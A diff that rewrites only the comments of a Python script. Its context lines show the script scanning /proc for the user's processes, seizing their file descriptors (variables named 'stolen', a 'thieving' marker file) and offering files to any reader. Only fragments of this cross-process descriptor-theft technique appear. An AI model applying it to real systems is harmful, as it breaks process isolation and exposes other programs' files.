@@ -1,4 +1,4 @@
-"""Takes descriptors from processes of its own user, and offers files to whoever reads them."""
+"""Copies descriptors from processes of its own user, and offers files to any process that reads them."""
 
 import ctypes, os, socket, sys, time
 
@@ -9,7 +9,7 @@ mine, _ = os.pipe()
 
 
 def offer(fd):
-    """Whether a process at the other end can be given a descriptor."""
+    """Whether the process at the other end accepts a descriptor."""
     global taken, accepted
     try:
         stolen = socket.socket(fileno=fd)
@@ -30,7 +30,7 @@ open("thieving", "w").close()
 end = time.time() + 120
 while time.time() < end and not os.path.exists("stop"):
     for name in os.listdir("/proc"):
-        # Each process is tried while it is young: it may close its doors soon.
+        # Each process is tried early: it may soon protect itself.
         if not name.isdigit() or int(name) == os.getpid() or seen.get(name, 0) > 40:
             continue
         seen[name] = seen.get(name, 0) + 1
